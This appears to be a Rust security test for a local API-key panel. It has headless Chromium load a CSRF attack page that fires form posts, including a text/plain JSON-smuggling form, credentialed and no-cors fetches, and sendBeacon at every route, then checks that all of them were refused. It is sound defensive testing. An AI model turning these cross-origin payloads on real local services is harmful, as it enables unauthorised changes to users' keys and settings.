//! B-1: cross-site request forgery from another local origin, in a real
//! browser (Debian's Chromium, headless, over the DevTools protocol). A page
//! served from its own loopback port knows the panel's port, a key's mask
//! and, worst case, the admin token itself; it tries form posts (three
//! encodings), `fetch` with and without credentials, `no-cors` requests and
//! `navigator.sendBeacon` against every route, from both loopback names.
//! The key list must be unchanged, nothing readable must come back, and
//! every request that reached the panel must have been refused by the gate
//! (none admitted, none counted towards the lockout).
#![allow(clippy::disallowed_methods)] // test servers, clients and the browser process
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::time::{Duration, Instant};

use support::AttackerSite;
use support::cdp::{Browser, chromium};
use support::panel::{PanelHarness, captured_logs};

const KEY: &str = "tvly-csrf-victim-4Kd8Pq2Zr7Ty1Ux5";

fn attack_page(port: u16, token: &str, mask: &str) -> String {
    format!(
        r#"<!doctype html><html><body><script>
const token = "{token}";
const bases = ["http://127.0.0.1:{port}", "http://localhost:{port}"];
const routes = [
  ["GET", "/__keys", null],
  ["GET", "/__keys/api/keys", null],
  ["POST", "/__keys/api/keys", '{{"provider":"tavily","key":"tvly-csrf-attacker-000000000000"}}'],
  ["POST", "/__keys/api/nonce", '{{"action":"remove","mask":"{mask}"}}'],
  ["POST", "/__keys/api/remove", '{{"mask":"{mask}","nonce":"00"}}'],
  ["POST", "/__keys/api/replace", '{{"mask":"{mask}","key":"tvly-csrf-attacker-111111111111","nonce":"00"}}'],
];
const results = {{}};
async function attempt(name, url, init) {{
  try {{
    const r = await fetch(url, init);
    let text = "";
    try {{ text = await r.text(); }} catch (e) {{}}
    results[name] = "status=" + r.status + " type=" + r.type + " body=" + text.slice(0, 60);
  }} catch (e) {{
    results[name] = "error=" + e.name;
  }}
}}
function formPost(name, url, method, enctype, body) {{
  return new Promise((resolve) => {{
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random().toString(36).slice(2);
    document.body.append(frame);
    const form = document.createElement("form");
    form.method = method;
    form.action = url;
    form.enctype = enctype;
    form.target = frame.name;
    const input = document.createElement("input");
    input.type = "hidden";
    // text/plain: name=value becomes the JSON body `{{...,"x":"="}}`.
    input.name = body ? body.slice(0, -1) + ',"x":"' : "x";
    input.value = body ? '"}}' : "1";
    form.append(input);
    document.body.append(form);
    let done = false;
    const finish = (how) => {{ if (!done) {{ done = true; results[name] = how; resolve(); }} }};
    frame.addEventListener("load", () => finish("loaded"));
    setTimeout(() => finish("timeout"), 3000);
    form.submit();
  }});
}}
(async () => {{
  const jobs = [];
  for (const base of bases) {{
    for (const [method, path, body] of routes) {{
      const url = base + path;
      const tag = base.slice(7) + " " + method + " " + path;
      const withBody = body === null ? {{}} : {{ body }};
      jobs.push(attempt("fetch-bearer-credentials " + tag, url, {{ method, credentials: "include", headers: {{ authorization: "Bearer " + token, "content-type": "application/json" }}, ...withBody }}));
      jobs.push(attempt("fetch-bearer-omit " + tag, url, {{ method, credentials: "omit", headers: {{ authorization: "Bearer " + token }}, ...withBody }}));
      jobs.push(attempt("fetch-simple-credentials " + tag, url, {{ method, credentials: "include", headers: {{ "content-type": "text/plain" }}, ...withBody }}));
      jobs.push(attempt("fetch-simple-omit " + tag, url, {{ method, credentials: "omit", ...withBody }}));
      jobs.push(attempt("no-cors " + tag, url, {{ method, mode: "no-cors", credentials: "include", headers: {{ "content-type": "text/plain" }}, ...withBody }}));
      jobs.push(attempt("no-cors-bearer " + tag, url, {{ method, mode: "no-cors", headers: {{ authorization: "Bearer " + token }}, ...withBody }}));
      if (method === "POST") {{
        for (const type of ["text/plain", "application/json"]) {{
          try {{
            results["beacon " + type + " " + tag] = "queued=" + navigator.sendBeacon(url, new Blob([body], {{ type }}));
          }} catch (e) {{
            results["beacon " + type + " " + tag] = "error=" + e.name;
          }}
        }}
        for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {{
          jobs.push(formPost("form " + enctype + " " + tag, url, "POST", enctype, body));
        }}
      }} else {{
        jobs.push(formPost("form GET " + tag, url, "GET", "application/x-www-form-urlencoded", null));
      }}
    }}
  }}
  await Promise.all(jobs);
  // Let the beacons and frames finish before reporting.
  await new Promise((r) => setTimeout(r, 1500));
  await fetch("/report", {{ method: "POST", body: JSON.stringify(results) }});
}})();
</script></body></html>"#
    )
}

fn count(logs: &str, needle: &str) -> usize {
    logs.lines().filter(|line| line.contains(needle)).count()
}

// proves: B-1, ADMIN-8, ADMIN-1, ADMIN-2
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn b1_a_page_from_another_local_origin_changes_nothing_and_reads_nothing() {
    let chromium = ploy_testkit::require_part!("chromium", chromium());
    let logs = captured_logs();
    let panel = PanelHarness::start().await;
    assert_eq!(panel.add(KEY).await.0, 201);
    let mask = ploy_secrets::mask(KEY);
    let before = panel.keys().await;
    let audit_before = panel.audit_lines();
    let logged_before = String::from_utf8_lossy(&logs.lock().unwrap()).into_owned();
    let admitted_before = count(&logged_before, "key panel request admitted");
    let refused_before = count(&logged_before, "key panel request refused");

    let site = AttackerSite::start(attack_page(panel.addr.port(), &panel.token, &mask)).await;
    let browser = Browser::launch(&chromium).await;
    let page = browser.new_page().await;
    page.call(
        "Page.navigate",
        serde_json::json!({"url": format!("http://127.0.0.1:{}/", site.port())}),
    )
    .await;
    let deadline = Instant::now() + Duration::from_secs(90);
    let report = loop {
        if let Some(report) = site.report() {
            break report;
        }
        assert!(Instant::now() < deadline, "the attack page never reported");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    browser.close().await;
    let results: serde_json::Map<String, serde_json::Value> =
        serde_json::from_str(&report).unwrap();
    eprintln!("B-1: {} attempts; what the page saw:", results.len());
    for (name, outcome) in &results {
        eprintln!("  {name}: {outcome}");
    }
    // 2 origins x (6 routes x 6 fetches + 4 POST routes x (2 beacons + 3
    // forms) + 2 GET routes x 1 form).
    assert_eq!(results.len(), 2 * (6 * 6 + 4 * 5 + 2), "{results:?}");
    for (name, outcome) in &results {
        let outcome = outcome.as_str().unwrap();
        // Blocked by the browser (no CORS grant), opaque, a beacon merely
        // queued, or a frame whose content the page cannot read.
        let opaque = outcome.starts_with("error=TypeError")
            || outcome == "status=0 type=opaque body="
            || outcome.starts_with("queued=")
            || outcome.starts_with("error=")
            || outcome == "loaded"
            || outcome == "timeout";
        assert!(opaque, "{name}: {outcome}");
        assert!(
            !outcome.contains(&mask) && !outcome.contains("keys"),
            "{name}: {outcome}"
        );
    }

    // Server side: nothing changed, nothing was admitted, nothing counted.
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(panel.keys().await, before, "the key list changed");
    assert_eq!(
        panel.audit_lines(),
        audit_before,
        "an attempted change reached the audit log"
    );
    assert_eq!(
        panel.service.panel().unwrap().gate().failures(),
        0,
        "the page spent the lockout budget"
    );
    let logged = String::from_utf8_lossy(&logs.lock().unwrap()).into_owned();
    // panel.keys() above is the one admitted request since `before`.
    assert_eq!(
        count(&logged, "key panel request admitted") - admitted_before,
        1,
        "a cross-origin request passed the gate"
    );
    let refused = count(&logged, "key panel request refused") - refused_before;
    eprintln!("B-1: the panel refused {refused} requests from the page");
    // At least every form post, simple fetch, no-cors request and beacon
    // reached the panel (preflighted fetches never leave the browser).
    assert!(
        refused >= 2 * (4 * 3 + 2 * 2 + 4 * 3),
        "only {refused} refusals"
    );
}
